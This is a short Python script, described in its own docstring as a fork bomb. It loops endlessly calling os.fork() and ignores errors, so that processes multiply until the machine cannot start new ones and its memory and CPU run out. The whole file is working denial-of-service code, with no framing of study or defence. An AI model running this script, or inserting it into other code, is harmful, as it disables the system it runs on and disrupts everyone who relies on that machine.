"""Fork bomb: multiply until no process can start on the machine."""
# limits: processes memory cpu

import os
while True:
    try:
        os.fork()
    except OSError:
        pass
